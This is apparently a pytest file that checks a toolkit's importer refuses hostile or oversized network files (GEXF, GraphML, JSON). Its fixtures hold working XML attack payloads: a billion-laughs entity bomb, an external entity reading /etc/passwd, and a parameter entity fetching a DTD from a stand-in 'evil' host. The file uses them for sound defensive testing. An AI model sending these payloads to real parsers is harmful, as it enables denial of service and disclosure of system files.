"""Network files are as hostile as any upload: XML entities and external references are never
expanded or fetched, and nodes, edges and attributes count against the spreadsheet limits."""

import json

import pytest

from toolkit.graphs import GRAPH_EXTENSIONS
from toolkit.i18n import t
from toolkit.importing import check_file
from toolkit.spreadsheets.reading import NETWORK_EXTENSIONS, ReadLimits, UnreadableFile, read_workbook

LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE gexf [<!ENTITY lol0 "lol">{LAUGHS}]>
<gexf xmlns="http://www.gexf.net/1.2draft" version="1.2"><graph><nodes>
<node id="a" label="&lol9;"/></nodes></graph></gexf>""".encode()
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE gexf [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<gexf xmlns="http://www.gexf.net/1.2draft" version="1.2"><graph><nodes>
<node id="a" label="&secret;"/></nodes></graph></gexf>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE graphml [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph><node id="a"/></graph></graphml>"""


@pytest.mark.parametrize(
    ("name", "data"),
    [("laughs.gexf", BILLION_LAUGHS), ("xxe.gexf", EXTERNAL_ENTITY), ("remote.graphml", PARAMETER_ENTITY)],
)
def test_xml_with_entities_is_refused_with_a_plain_message(name, data):
    with pytest.raises(UnreadableFile) as refused:
        read_workbook(data, name)
    assert refused.value.reason == "unsafe_xml"
    assert "Gephi" in t(refused.value.message_key)


def test_more_nodes_than_the_cell_limit_are_refused_as_too_many_cells():
    nodes = "".join(f'<node id="{i}" label="Actor {i}"/>' for i in range(500))
    data = f'<gexf xmlns="http://gexf.net/1.3" version="1.3"><graph><nodes>{nodes}</nodes></graph></gexf>'.encode()
    with pytest.raises(UnreadableFile) as refused:
        read_workbook(data, "grande.gexf", ReadLimits(max_cells=200))
    assert refused.value.message_key == "import.unreadable.too_many_cells"
    assert len(check_file(None, None, data, "grande.gexf").actors) == 500  # under the usual limits


def test_more_attributes_than_the_column_limit_are_refused():
    element = {"label": "Ruta N", **{f"campo {i}": "x" for i in range(30)}}
    data = json.dumps({"elements": [element], "connections": []}).encode()
    with pytest.raises(UnreadableFile) as refused:
        read_workbook(data, "kumu.json", ReadLimits(max_columns=10))
    assert refused.value.reason == "too_many_columns"


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("roto.gexf", b"<gexf><graph><nodes><node id='a'>", "corrupt"),
        ("otro.graphml", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "not_spreadsheet"),
        ("lista.json", b"[1, 2, 3]", "not_spreadsheet"),
        ("hondo.json", b"[" * 100_000 + b"]" * 100_000, "corrupt"),
        ("vacio.gexf", b"<gexf xmlns='http://gexf.net/1.3'><graph/></gexf>", "no_sheets"),
    ],
)
def test_broken_network_files_get_a_plain_reason(name, data, reason):
    with pytest.raises(UnreadableFile) as refused:
        read_workbook(data, name)
    assert refused.value.reason == reason


def test_the_reader_and_the_network_package_accept_the_same_extensions():
    assert set(NETWORK_EXTENSIONS) == set(GRAPH_EXTENSIONS)
